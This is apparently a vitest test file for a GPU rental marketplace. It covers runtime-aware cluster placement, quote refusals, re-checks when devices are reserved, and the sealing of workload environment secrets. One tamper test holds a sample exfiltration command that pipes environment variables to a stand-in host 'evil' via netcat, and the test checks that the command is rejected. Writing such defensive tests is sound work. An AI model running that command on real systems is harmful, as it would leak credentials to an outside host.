import { randomBytes, randomUUID } from "node:crypto";
import { createTestDatabase, type TestDatabase } from "@gpumesh/devstack";
import { freeFor, type ClusterRequestInput, type SegmentFilter } from "@gpumesh/core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import {
  availability, createDb, createHeldQuote, DeviceUnavailableError, loadCandidates, markAgentOnline, openStoredWorkload, placeCluster, releaseHeldQuote, reserveGang, startMatchingWithHolds,
  sealWorkloadAtRest, storedWorkloadView, WorkloadSecretsError,
  type Db, type HeldQuote, type HeldQuoteResult, type PlacementQuery,
} from "../src/index.ts";
import { seedCatalogue } from "../src/seed.ts";

// Devices whose agents run the process runtime refuse every assignment that brings a workload: placement
// (the candidate read, the matcher, quotes) keeps clusters with a workload to devices that run images.
let database: TestDatabase;
let db: Db;
let renterId: string;
const now = new Date(Date.UTC(2026, 11, 1, 12));
const rates = { feeBps: 500, burnBps: 5_000 };
const ids: Record<string, string> = {};
const workload = { image: "ghcr.io/acme/train:2", ports: [8888] };

async function device(name: string, data: { supplierId: string; gpuModelId?: string; region: string; city: string; ask: bigint; runsImages?: boolean; gpuCount?: number }) {
  const row = await db.device.create({
    data: {
      supplierId: data.supplierId, name, gpuModelId: data.gpuModelId ?? "h100-80gb", gpuCount: data.gpuCount ?? 8, vramGb: 80,
      cpuModel: "EPYC", cpuCores: 64, ramGb: 512, diskGb: 4096, region: data.region, country: "US", city: data.city,
      bandwidthUpMbps: 10_000, bandwidthDownMbps: 10_000, pricePerGpuHour: data.ask, status: "ONLINE", verificationScoreBps: 9_000, lastHeartbeatAt: now,
      // Left out: the column's default (false), as for every device whose agent has not said otherwise.
      ...(data.runsImages === undefined ? {} : { runsImages: data.runsImages }),
    },
    select: { id: true },
  });
  ids[name] = row.id;
}

beforeAll(async () => {
  database = await createTestDatabase("placement_runtime");
  db = createDb(database.url, { max: 8 });
  await seedCatalogue(db);
  renterId = (await db.account.create({ data: { walletAddress: "RenterRuntime".padEnd(43, "1") } })).id;
  const supplier = async (name: string) => {
    const account = await db.account.create({ data: { walletAddress: `Supp${name}`.padEnd(43, "1") } });
    return (await db.supplier.create({ data: { accountId: account.id, name } })).id;
  };
  const dc = await supplier("Ashburn DC");
  const ams = await supplier("Amsterdam DC");
  const west = await supplier("Oregon rigs");
  // us-east: two cheap process-runtime servers and one dearer Docker server; eu-west: one Docker
  // server; us-west: only a process-runtime server; ap-south: a Docker RTX 4090.
  await device("proc-use-0", { supplierId: dc, region: "us-east", city: "Ashburn", ask: 1_000_000n });
  await device("proc-use-1", { supplierId: dc, region: "us-east", city: "Ashburn", ask: 1_100_000n, runsImages: false });
  await device("docker-use", { supplierId: dc, region: "us-east", city: "Ashburn", ask: 2_000_000n, runsImages: true });
  await device("docker-euw", { supplierId: ams, region: "eu-west", city: "Amsterdam", ask: 2_200_000n, runsImages: true });
  await device("proc-usw", { supplierId: west, region: "us-west", city: "Portland", ask: 1_500_000n });
  await device("docker-4090-aps", { supplierId: west, gpuModelId: "rtx-4090", gpuCount: 1, region: "ap-south", city: "Mumbai", ask: 340_000n, runsImages: true });
});

afterAll(async () => {
  await db.$disconnect();
  await database.drop();
});

afterEach(async () => {
  const held = await db.cluster.findMany({ where: { status: "REQUESTED" }, select: { id: true, renterId: true, paymentToken: true } });
  for (const c of held) await releaseHeldQuote(db, { clusterId: c.id, renterId: c.renterId, paymentToken: c.paymentToken }, { at: now, reason: "test cleanup" });
});

const h100 = (gpuCount: number, regions: string[], extra: Partial<ClusterRequestInput> = {}): ClusterRequestInput => ({
  name: "runtime-test", type: "RAY", gpuModelIds: ["h100-80gb"], gpuCount, regions, durationHours: 2, ...extra,
});

function expectHeld(result: HeldQuoteResult): HeldQuote {
  if (!result.ok) throw new Error(`expected a held quote, got: ${result.message}`);
  return result.quote;
}

describe("the device's runtime", () => {
  it("is what its agent said when it last connected; a device nobody spoke for cannot run images", async () => {
    const runsImages = async () => (await db.device.findUniqueOrThrow({ where: { id: ids["proc-use-0"] }, select: { runsImages: true } })).runsImages;
    expect(await runsImages()).toBe(false);
    const key = "RuntimeAgentKey111111111111111111111111111";
    await db.device.update({ where: { id: ids["proc-use-0"] }, data: { agentPublicKey: key } });
    try {
      expect(await markAgentOnline(db, ids["proc-use-0"]!, key, now, true)).toBe(true);
      expect(await runsImages()).toBe(true);
      // Restarted with the process runtime: says so on its next connection.
      expect(await markAgentOnline(db, ids["proc-use-0"]!, key, now, false)).toBe(true);
      expect(await runsImages()).toBe(false);
      // Another key (removed meanwhile): nothing recorded.
      expect(await markAgentOnline(db, ids["proc-use-0"]!, "SomeoneElse1111111111111111111111111111111", now, true)).toBe(false);
      expect(await runsImages()).toBe(false);
    } finally {
      await db.device.update({ where: { id: ids["proc-use-0"] }, data: { agentPublicKey: null } });
    }
  });
});

describe("quotes", () => {
  it("a cluster without a workload takes the cheapest device whatever its runtime; one with a workload only devices that run images", async () => {
    const plain = expectHeld(await createHeldQuote(db, { accountId: renterId, request: h100(8, ["us-east"]), now, rates }));
    expect(plain.devices.map((d) => d.deviceId)).toEqual([ids["proc-use-0"]]);
    const withImage = expectHeld(await createHeldQuote(db, { accountId: renterId, request: h100(8, ["us-east"], { workload }), now, rates }));
    expect(withImage.devices.map((d) => d.deviceId)).toEqual([ids["docker-use"]]);
    expect(withImage.workload).toMatchObject({ image: workload.image });
    // Utilisation counts the whole market, whatever the runtime: both quotes' servers are busy.
    expect(withImage.markets[0]).toMatchObject({ onlineGpus: 24, busyGpus: 8 });
  });

  it("counts only devices that run images when a workload asks for more than they have", async () => {
    const result = await createHeldQuote(db, { accountId: renterId, request: h100(16, ["us-east"], { workload }), now, rates });
    expect(result).toMatchObject({ ok: false, constraint: "capacity", requested: [{ gpuModelId: "h100-80gb", region: "us-east", freeGpus: 8 }] });
    // The same cluster without an image fits on the process-runtime servers.
    expectHeld(await createHeldQuote(db, { accountId: renterId, request: h100(16, ["us-east"]), now, rates }));
  });

  it("refuses up front, naming the runtime, where no device runs images, with the markets where some do", async () => {
    const result = await createHeldQuote(db, { accountId: renterId, request: h100(8, ["us-west"], { workload }), now, rates });
    if (result.ok) throw new Error("expected a refusal");
    expect(result.constraint).toBe("runtime");
    expect(result.requested).toEqual([]);
    expect(result.otherRegions).toEqual([
      { gpuModelId: "h100-80gb", region: "eu-west", freeGpus: 8 },
      { gpuModelId: "h100-80gb", region: "us-east", freeGpus: 8 },
    ]);
    expect(result.otherModels).toEqual([]);
    expect(result.message).toBe(
      "no free H100 80GB GPUs matching the request in us-west on devices that run container images " +
        "(the 8 free there run only their owners' command; without an image the cluster could use them); " +
        "elsewhere: 8 H100 80GB in eu-west, 8 H100 80GB in us-east",
    );
    expect(await db.cluster.count({ where: { status: "REQUESTED" } })).toBe(0);
    // Without an image the same request is quoted on the process-runtime server.
    const plain = expectHeld(await createHeldQuote(db, { accountId: renterId, request: h100(8, ["us-west"]), now, rates }));
    expect(plain.devices.map((d) => d.deviceId)).toEqual([ids["proc-usw"]]);
  });

  it("the configure table says what a cluster with an image can have: fewer free GPUs, at the cheapest device that runs images", async () => {
    const [market] = await availability(db, { now, gpuModelIds: ["h100-80gb"], regions: ["us-east"] });
    expect(market).toMatchObject({ freeGpus: 24, cheapestAskPerGpuHour: 1_000_000n });
    const filter: SegmentFilter = { connectivityTier: "LOW", encryptedTraffic: false, complianceOnly: false, supplierNetworks: ["GPUMESH"], needsImages: false };
    expect(freeFor(market!.segments, filter)).toEqual({ freeGpus: 24, pricePerGpuHour: market!.pricePerGpuHour });
    const withImage = freeFor(market!.segments, { ...filter, needsImages: true });
    expect(withImage.freeGpus).toBe(8);
    expect(market!.segments.filter((s) => s.runsImages).map((s) => s.cheapestAskPerGpuHour)).toEqual([2_000_000n]);
    expect(withImage.pricePerGpuHour! > market!.pricePerGpuHour!).toBe(true);
    const [west] = await availability(db, { now, gpuModelIds: ["h100-80gb"], regions: ["us-west"] });
    expect(west!.freeGpus).toBe(8);
    expect(freeFor(west!.segments, { ...filter, needsImages: true })).toEqual({ freeGpus: 0, pricePerGpuHour: null });
  });

  it("stores env values sealed with the server key: the row shows names, the scheduler's read opens values, placement still sees the image", async () => {
    const key = randomBytes(32);
    const secret = "wandb-0123456789-do-not-store";
    const request = h100(8, ["us-east"], { workload: { ...workload, env: { WANDB_API_KEY: secret, MODE: "train" } } });
    const quote = expectHeld(await createHeldQuote(db, { accountId: renterId, request, now, rates, workloadSecretsKey: key }));
    expect(quote.devices.map((d) => d.deviceId)).toEqual([ids["docker-use"]]);
    const [row] = await db.$queryRaw<{ text: string }[]>`select row_to_json(c)::text as text from cluster c where id = ${quote.clusterId}::uuid`;
    expect(row!.text).not.toContain(secret);
    expect(row!.text).not.toContain("train\"");
    const stored = (await db.cluster.findUniqueOrThrow({ where: { id: quote.clusterId } })).workload;
    expect(storedWorkloadView(stored)).toEqual({ image: workload.image, command: null, envNames: ["MODE", "WANDB_API_KEY"], ports: [8888], sshPublicKey: null });
    expect(openStoredWorkload(stored, quote.clusterId, key)).toEqual({ ...workload, env: { WANDB_API_KEY: secret, MODE: "train" } });
    // Another key, no key, or the sealed env presented as another cluster's: nothing opens.
    expect(() => openStoredWorkload(stored, quote.clusterId, randomBytes(32))).toThrow(WorkloadSecretsError);
    expect(() => openStoredWorkload(stored, quote.clusterId, undefined)).toThrow(/WORKLOAD_SECRETS_KEY is not set/);
    expect(() => openStoredWorkload(stored, randomUUID(), key)).toThrow(WorkloadSecretsError);
    // Whoever can write the row cannot keep the sealed env and swap what it runs.
    expect(() => openStoredWorkload({ ...(stored as object), image: "evil/exfiltrate:1" }, quote.clusterId, key)).toThrow(WorkloadSecretsError);
    expect(() => openStoredWorkload({ ...(stored as object), command: ["sh", "-c", "env | nc evil 80"] }, quote.clusterId, key)).toThrow(WorkloadSecretsError);
    // A row from before sealing (values in clear) still reads, with or without the key.
    const legacy = { ...workload, env: { TOKEN: "old" } };
    expect(openStoredWorkload(legacy, quote.clusterId, undefined)).toEqual(legacy);
    expect(storedWorkloadView(legacy)?.envNames).toEqual(["TOKEN"]);
  });

  it("without the server key a request with env values is refused before anything is held", async () => {
    const request = h100(8, ["us-east"], { workload: { ...workload, env: { WANDB_API_KEY: "x" } } });
    await expect(createHeldQuote(db, { accountId: renterId, request, now, rates })).rejects.toThrow(WorkloadSecretsError);
    expect(await db.cluster.count({ where: { status: "REQUESTED" } })).toBe(0);
  });

  it("a market with no such model at all is still a region or model failure, not the runtime", async () => {
    const result = await createHeldQuote(db, { accountId: renterId, request: h100(8, ["ap-south"], { workload }), now, rates });
    expect(result).toMatchObject({ ok: false, constraint: "region", otherModels: [{ gpuModelId: "rtx-4090", region: "ap-south", freeGpus: 1 }] });
  });
});

describe("the deploy step's candidate read", () => {
  const query = (regions: string[], cluster: { workload: unknown }): PlacementQuery => ({
    cluster: {
      id: "00000000-0000-4000-8000-000000000001", name: "runtime", type: "RAY", gpuModelIds: ["h100-80gb"], minVramGb: 0, regions, connectivityTier: "LOW",
      encryptedTraffic: false, complianceOnly: false, supplierNetworks: ["GPUMESH"], durationHours: 1, billingPeriod: "HOURLY", paymentToken: "USDC",
      maxPricePerGpuHour: null, workload: cluster.workload as PlacementQuery["cluster"]["workload"],
    },
    gpuCount: 8, startsAt: now, endsAt: new Date(now.getTime() + 3_600_000), excludeDeviceIds: new Set(), minVerificationScoreBps: 5_000,
  });

  it("reads only devices that run images for a cluster with a workload (as stored: JSON), every device otherwise", async () => {
    const stored = JSON.parse(JSON.stringify(workload)) as unknown;
    const withImage = await loadCandidates(db, query(["us-east", "us-west"], { workload: stored }));
    expect(withImage.map((c) => c.device.id)).toEqual([ids["docker-use"]]);
    expect(withImage.every((c) => c.device.runsImages)).toBe(true);
    const plain = await loadCandidates(db, query(["us-east", "us-west"], { workload: null }));
    expect(plain.map((c) => c.device.id).sort()).toEqual([ids["proc-use-0"], ids["proc-use-1"], ids["docker-use"], ids["proc-usw"]].sort());
    expect(plain.find((c) => c.device.id === ids["docker-use"])!.device.runsImages).toBe(true);
    expect(plain.find((c) => c.device.id === ids["proc-usw"])!.device.runsImages).toBe(false);
  });

  it("places a cluster with a workload on a device that runs images, and says why when none does", async () => {
    const placed = await placeCluster(db, query(["us-east"], { workload }));
    expect(placed).toMatchObject({ ok: true, devices: [{ deviceId: ids["docker-use"] }] });
    // As stored with its env sealed at rest: placed the same way (values are not needed to place it).
    const sealed = JSON.parse(JSON.stringify(sealWorkloadAtRest({ ...workload, env: { TOKEN: "t" } }, "00000000-0000-4000-8000-000000000001", randomBytes(32)))) as unknown;
    expect(await placeCluster(db, query(["us-east"], { workload: sealed }))).toMatchObject({ ok: true, devices: [{ deviceId: ids["docker-use"] }] });
    expect(await placeCluster(db, query(["us-west"], { workload: sealed }))).toMatchObject({ ok: false, reason: "no free H100 80GB GPUs in us-west on devices that run container images" });
    const refused = await placeCluster(db, query(["us-west"], { workload }));
    expect(refused).toMatchObject({ ok: false, reason: "no free H100 80GB GPUs in us-west on devices that run container images" });
    expect(await placeCluster(db, query(["us-west"], { workload: null }))).toMatchObject({ ok: true, devices: [{ deviceId: ids["proc-usw"] }] });
  });
});

describe("the statements that take devices check the runtime again", () => {
  // Placement read the runtime a moment before; an agent that reconnects with the process runtime in
  // between (or between a quote and its payment) must not be handed an image it will refuse.
  const setRunsImages = (name: string, runsImages: boolean) => db.device.update({ where: { id: ids[name] }, data: { runsImages } });
  const pay = async (quote: HeldQuote) => {
    await db.cluster.update({ where: { id: quote.clusterId }, data: { status: "PAID" } });
    const cluster = await db.cluster.findUniqueOrThrow({ where: { id: quote.clusterId }, select: { id: true, renterId: true, paymentToken: true } });
    const endsAt = new Date(now.getTime() + 2 * 3_600_000);
    return startMatchingWithHolds(db, { ...cluster, depositAmount: 0n }, { reason: "paid", at: now, endsAt, releaseReason: "replaced: held device gone" });
  };
  const releaseAll = (clusterId: string) => db.allocation.updateMany({ where: { clusterId, status: "ACTIVE" }, data: { status: "RELEASED", releasedAt: now } });

  it("a paid quote whose device stopped running images is released for a replacement; one without an image keeps its device", async () => {
    const withImage = expectHeld(await createHeldQuote(db, { accountId: renterId, request: h100(8, ["us-east"], { workload }), now, rates }));
    const plain = expectHeld(await createHeldQuote(db, { accountId: renterId, request: h100(8, ["us-east"]), now, rates }));
    expect(withImage.devices.map((d) => d.deviceId)).toEqual([ids["docker-use"]]);
    expect(plain.devices.map((d) => d.deviceId)).toEqual([ids["proc-use-0"]]);
    await setRunsImages("docker-use", false);
    try {
      const claimed = await pay(withImage);
      expect(claimed.kept).toEqual([]);
      expect(claimed.released.map((a) => a.deviceId)).toEqual([ids["docker-use"]]);
      // The process-runtime device a plain cluster was quoted on is still fine for it.
      const kept = await pay(plain);
      expect(kept.kept.map((a) => a.deviceId)).toEqual([ids["proc-use-0"]]);
      expect(kept.released).toEqual([]);
    } finally {
      await setRunsImages("docker-use", true);
      await releaseAll(withImage.clusterId);
      await releaseAll(plain.clusterId);
    }
  });

  it("a deploy reservation of a device that does not run images is refused as no-runtime, for a cluster with an image only", async () => {
    const withImage = expectHeld(await createHeldQuote(db, { accountId: renterId, request: h100(8, ["us-east"], { workload }), now, rates }));
    const claimed = await pay(withImage);
    expect(claimed.released).toEqual([]);
    await releaseAll(withImage.clusterId); // as if its held device had been lost: the deploy step reserves anew
    const endsAt = new Date(now.getTime() + 2 * 3_600_000);
    const reserve = (clusterId: string, name: string) =>
      reserveGang(db, { clusterId, devices: [{ deviceId: ids[name]!, gpuCount: 8, pricePerGpuHour: 1_100_000n }], startsAt: now, endsAt, expected: "MATCHING", reason: "matched", at: now, heldGpus: 0 });
    const refused = await reserve(withImage.clusterId, "proc-use-1").catch((error: unknown) => error);
    expect(refused).toBeInstanceOf(DeviceUnavailableError);
    expect((refused as DeviceUnavailableError).reasons).toEqual({ [ids["proc-use-1"]!]: "no-runtime" });
    expect(await db.allocation.count({ where: { clusterId: withImage.clusterId, status: "ACTIVE" } })).toBe(0);
    expect((await db.cluster.findUniqueOrThrow({ where: { id: withImage.clusterId } })).status).toBe("MATCHING");
    // The same device for a cluster without an image: reserved.
    const plain = expectHeld(await createHeldQuote(db, { accountId: renterId, request: h100(8, ["us-west"]), now, rates }));
    await pay(plain);
    await releaseAll(plain.clusterId);
    try {
      expect(await reserve(plain.clusterId, "proc-use-1")).toMatchObject({ outcome: "reserved" });
      // And a device that runs images, for the cluster with one: reserved.
      expect(await reserve(withImage.clusterId, "docker-use")).toMatchObject({ outcome: "reserved" });
    } finally {
      await releaseAll(plain.clusterId);
      await releaseAll(withImage.clusterId);
    }
  });
});
